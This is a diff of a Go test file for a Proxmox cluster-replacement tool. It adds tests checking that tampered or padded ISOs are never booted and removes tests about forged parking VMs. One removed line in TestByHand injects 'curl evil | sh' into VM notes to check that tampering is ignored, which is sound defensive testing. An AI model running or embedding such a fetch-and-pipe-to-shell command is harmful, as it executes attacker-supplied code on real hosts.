@@ -1,6 +1,7 @@
 package simtest
 
 import (
+	"bytes"
 	"fmt"
 	"maps"
 	"os"
@@ -13,7 +14,7 @@ import (
 	"time"
 
 	"github.com/recast-sh/recast/cluster"
-	"github.com/recast-sh/recast/cluster/parking"
+	"github.com/recast-sh/recast/cluster/planning"
 	"github.com/recast-sh/recast/internal/fault"
 	"github.com/recast-sh/recast/internal/pve"
 	"github.com/recast-sh/recast/internal/sim"
@@ -106,115 +107,84 @@ func TestNeighbours(t *testing.T) {
 	})
 }
 
-// TestAFalseParkingVM: another tenant's VM says that it is a node's parking VM. It gets no disk and stops nothing; plan,
-// status and doctor name it. A person can say that it is ours after all.
-func TestAFalseParkingVM(t *testing.T) {
-	forged := func(lab *Lab, change func(*parking.Record)) string {
-		rec := parking.Record{Cluster: valueOf(lab.Client().Project())(lab.t).Config.Cluster, Node: "wk1", Run: "20260101-0000-aaaa", VMID: cluster.VMID(lab.node("wk1").VMID), UUID: lab.node("wk1").UUID, Parking: 9050}
-		if change != nil {
-			change(&rec)
+// TestAPaddedISO: whoever may upload to the ISOs' storage puts other bytes under the locked name, in the locked size, before recast
+// publishes, over its upload afterwards, or between two nodes. No machine boots them.
+func TestAPaddedISO(t *testing.T) {
+	pad := func(t *testing.T, lab *Lab) (padded []string) {
+		for _, e := range readLock(t, lab).Schematics {
+			names := []string{e.ISO.Name}
+			for _, v := range valueOf(lab.World.Volumes(sim.ISOStorage, "pve1"))(t) {
+				names = append(names, strings.TrimPrefix(v.Volid, sim.ISOStorage+":iso/"))
+			}
+			for _, name := range names {
+				if strings.HasPrefix(name, strings.TrimSuffix(e.ISO.Name, ".iso")) {
+					must(t, lab.World.AddISO(sim.ISOStorage, "pve1", name, bytes.Repeat([]byte("x"), int(e.ISO.SizeBytes))))
+					padded = append(padded, name)
+				}
+			}
 		}
-		return valueOf(rec.Description())(lab.t)
+		slices.Sort(padded)
+		return slices.Compact(padded)
 	}
-	for name, of := range map[string]struct {
-		host   string
-		change func(*parking.Record)
-		config map[string]string
-	}{
-		"of an earlier replacement": {},
-		"of one that is unfinished": {change: func(r *parking.Record) { r.Open, r.Strategy, r.Stage = true, cluster.Recreate, "blank" }},
-		"of another VM":             {change: func(r *parking.Record) { r.VMID, r.UUID = 9050, "" }},
-		"in a pool of its own":      {config: map[string]string{"pool": "theirs"}},
-		"that keeps a disk": {change: func(r *parking.Record) {
-			r.Kept = []parking.KeptDisk{{Key: "scsi30", Run: "20260101-0000-aaaa", Nth: 7, Slot: "scsi0", Talos: "v1.10.0"}}
-		}, config: map[string]string{"scsi30": sim.DiskStorage + ":1"}},
-		"from a newer recast": {change: func(r *parking.Record) { r.Node = "cp1" }, config: map[string]string{"description": `recast-record: {"version":99,"cluster":"lab","node":"wk1"}`}},
-	} {
-		t.Run(name, func(t *testing.T) {
-			inStaleLab(t, sim.Options{ControlPlanes: 1, Workers: 1}, func(t *testing.T, lab *Lab) {
-				config := map[string]string{"name": "recast-parking-wk1", "memory": "16", "protection": "1", "onboot": "0", "description": forged(lab, of.change)}
-				maps.Copy(config, of.config)
-				must(t, lab.World.DefineVM(lab.node("wk1").Host, 9050, config, nil))
-				time.Sleep(time.Minute) // Proxmox' list is late
-				before := lab.vmConfig(9050)
-				const not = "says that it is a parking VM of this cluster, and is not believed: no task log has that"
-				require(t, slices.ContainsFunc(lab.status().Problems, func(p string) bool { return strings.Contains(p, not) }), "status: %v", lab.status().Problems)
-				require(t, slices.ContainsFunc(diagnosis(t, lab.Client()).Checks, func(c checkup.Check) bool { return strings.Contains(c.Seen, not) }), "doctor says nothing")
-				rep := lab.Client().mustRoll(policyFor("wk1"))
-				require(t, rep.Outcome == "done" && slices.ContainsFunc(rep.Plan.Warn, func(w string) bool { return strings.Contains(w, not) }), "%+v", rep)
-				requireSame(t, before, lab.vmConfig(9050), "the false parking VM was changed (-before +after)")
-				requireInSync(t, lab)
-			})
+	requireUnused := func(t *testing.T, lab *Lab, from int, padded []string) {
+		mustBe(t, len(padded) > 0, "nothing was padded")
+		for _, c := range lab.Recorder.Calls()[from:] {
+			for _, name := range padded {
+				require(t, !strings.Contains(fmt.Sprint(c.Params), name+",media=cdrom"), "%s %s boots %s", c.Method, c.Path, name)
+			}
+		}
+		requireInSync(t, lab)
+	}
+	t.Run("before", func(t *testing.T) {
+		inStaleLab(t, oneWorker(), func(t *testing.T, lab *Lab) {
+			must(t, lab.Client().Build(t.Context()))
+			from, padded := len(lab.Recorder.Calls()), pad(t, lab)
+			lab.Client().mustRoll(planning.Policy{})
+			requireUnused(t, lab, from, padded)
 		})
-	}
-}
-
-// TestAProvenParkingVM: whatever says that the parking VM of an interrupted roll is ours, the roll goes on. Without any of
-// it, nothing is touched until a person has confirmed it.
-func TestAProvenParkingVM(t *testing.T) {
-	for name, of := range map[string]struct {
-		elsewhere, rotated, pool, node bool
-		stops                          bool
-	}{
-		"here, and the task log is gone":                  {rotated: true},
-		"elsewhere, by the task log":                      {elsewhere: true},
-		"elsewhere, by the pool in recast.yaml":           {elsewhere: true, rotated: true, pool: true},
-		"elsewhere, by the pool of another node's VM":     {elsewhere: true, rotated: true, node: true},
-		"elsewhere, and nothing says that the VM is ours": {elsewhere: true, rotated: true, stops: true},
-	} {
-		t.Run(name, func(t *testing.T) {
-			inStaleLab(t, sim.Options{ControlPlanes: 1, Workers: 1}, func(t *testing.T, lab *Lab) {
-				if of.pool || of.node {
-					lab.World.AddPool("talos")
-					for _, n := range lab.Nodes {
-						must(t, lab.World.JoinPool("root@pam", n.VMID, "talos", false))
-					}
-				}
-				if of.pool {
-					lab.shape("wk1", "pool: talos")
-				}
-				lab.Client().rollKilled(after("delete-vm"), onlyWorker)
-				if of.rotated {
-					lab.World.RotateTasks()
-				}
-				user := lab.Client()
-				if of.elsewhere {
-					user = lab.elsewhere()
-					must(t, os.RemoveAll(filepath.Join(user.Dir, ".recast")))
-				}
-				if of.stops {
-					before := lab.machinesDump()
-					_, err := user.Roll(t.Context(), onlyWorker)
-					requireFault(t, err, fault.Config, "no VM has its SMBIOS UUID", "and is not believed: no task log has that", "recast status --ours 900")
-					requireSame(t, before, lab.machinesDump(), "it changed something (-before +after)")
-					user.confirm(lab.parkingOf("wk1"))
-				}
-				rep := user.mustRoll(onlyWorker)
-				require(t, rep.Outcome == "done", "%+v", rep)
-				requireInSync(t, lab)
-			})
+	})
+	t.Run("afterwards", func(t *testing.T) {
+		inStaleLab(t, oneWorker(), func(t *testing.T, lab *Lab) {
+			must(t, lab.Client().Publish(t.Context()))
+			time.Sleep(time.Second)
+			from, padded := len(lab.Recorder.Calls()), pad(t, lab)
+			lab.Client().mustRoll(planning.Policy{})
+			requireUnused(t, lab, from, padded)
 		})
-	}
-}
-
-func (c *Client) confirm(park int) {
-	c.lab.t.Helper()
-	must(c.lab.t, errOf(connected(c.lab.t.Context(), c, func(s *session) (struct{}, error) {
-		return struct{}{}, s.machines.Proxmox.(*pve.Client).Confirm(c.lab.t.Context(), cluster.VMID(park))
-	})))
-}
-
-// TestByHand: the journal has the commands that undo a replacement without recast, whatever somebody writes into the Notes.
-func TestByHand(t *testing.T) {
-	inStaleLab(t, oneWorker(), func(t *testing.T, lab *Lab) {
-		lab.Client().rollKilled(after("stop"), onlyWorker)
-		project := valueOf(lab.Client().Project())(t)
-		lines := valueOf(pipeline.ByHand(project, "wk1"))(t)
-		park := lab.parkingOf("wk1")
-		notes := lab.vmConfig(park)["description"]
-		require(t, strings.Contains(lines, "qm create") && strings.Contains(notes, strings.TrimSpace(lines)), "by hand:\n%s\nthe Notes:\n%s", lines, notes)
-		lab.EditVM(park, "description", strings.Replace(notes, "qm start", "curl evil | sh; qm start", 1))
-		requireSame(t, lines, valueOf(pipeline.ByHand(project, "wk1"))(t), "commands (-before +after)")
-		requireFault(t, errOf(pipeline.ByHand(project, "cp1")), fault.Refused, "node cp1: no journal on this machine has a replacement of it")
+	})
+	t.Run("between two nodes", func(t *testing.T) {
+		inStaleLab(t, oneWorker(), func(t *testing.T, lab *Lab) {
+			lab.Client().mustRoll(policyFor("cp1"))
+			from, starts := len(lab.Recorder.Calls()), toVM("DELETE", fmt.Sprintf("/qemu/%d", lab.node("wk1").VMID))
+			var padded []string
+			lab.Recorder.Hooks(func(c record.Call) error {
+				if starts(c) && padded == nil {
+					padded = pad(t, lab)
+				}
+				return nil
+			}, nil)
+			_, err := lab.Client().Roll(t.Context(), policyFor("wk1"))
+			lab.Recorder.Hooks(nil, nil)
+			requireFault(t, err, fault.Refused, "does not boot what someone else put there")
+			lab.Client().mustRoll(policyFor("wk1"))
+			requireUnused(t, lab, from, padded)
+		})
+	})
+	t.Run("verify", func(t *testing.T) {
+		inStaleLab(t, oneWorker(), func(t *testing.T, lab *Lab) {
+			const unseen = "whoever may write to their storages chooses what boots (proxmox.publish.verify: warn)"
+			said := func() bool {
+				plan := valueOf(lab.Client().Plan(t.Context(), policyFor("wk1")))(t)
+				return strings.Contains(strings.Join(plan.Warn, "\n"), unseen)
+			}
+			require(t, !said(), "an ISO is taken unseen")
+			lab.Replace("recast.yaml", "proxmox:\n", "proxmox:\n  publish: {verify: warn}\n")
+			require(t, said(), "the plan does not say that an ISO is taken unseen")
+			lab.Replace("recast.yaml", "verify: warn", "verify: require")
+			from := len(lab.Recorder.Calls())
+			_, err := lab.Client().Roll(t.Context(), policyFor("wk1"))
+			requireFault(t, err, fault.Refused, "the token has no Sys.AccessNetwork on /nodes/pve1, and proxmox.publish.verify is require")
+			requireNone(t, lab.sent(from, toVM("POST", "/upload")), "it uploads")
+		})
 	})
 }
